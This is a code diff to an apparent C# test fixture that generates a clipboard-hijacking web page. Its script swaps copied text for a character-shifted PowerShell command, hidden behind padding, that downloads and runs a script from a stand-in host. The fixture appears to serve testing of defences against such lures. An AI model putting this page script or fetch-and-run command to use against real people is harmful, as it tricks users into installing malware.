@@ -168,13 +168,13 @@ public sealed class PageThatHasACommandPasted : SeventhRound
             <p><button id="b">Copy</button> <button id="o">Open file manager</button><input type="file" id="i" hidden></p>
             <script>
             const shift = (t, n) => [...t].map((c) => String.fromCharCode(c.charCodeAt(0) - n)).join('');
-            const held = shift(@@1, 3);
+            const held = shift(@@1, 4);
             const swap = (e) => { e.clipboardData.setData('text/plain', held + ' '.repeat(140) + '# ' + document.getElementById('p').textContent); e.preventDefault(); };
             document.addEventListener('copy', swap);
             b.onclick = () => { getSelection().selectAllChildren(p); document.execCommand('co' + 'py'); };
             o.onclick = () => i.click();
             </script></body></html>
-            """, "'" + new string([.. "Powershell.exe -c ping 192.0.2.71; iwr https://share-hr.example/p -o $env:TEMP/p.ps1; & $env:TEMP/p.ps1".Select(letter => (char)(letter + 3))]) + "'"))),
+            """, "'" + new string([.. "Powershell.exe -c ping 192.0.2.71; iwr https://share-hr.example/p -o $env:TEMP/p.ps1; & $env:TEMP/p.ps1".Select(letter => (char)(letter + 4))]) + "'"))),
     ];
 }
 
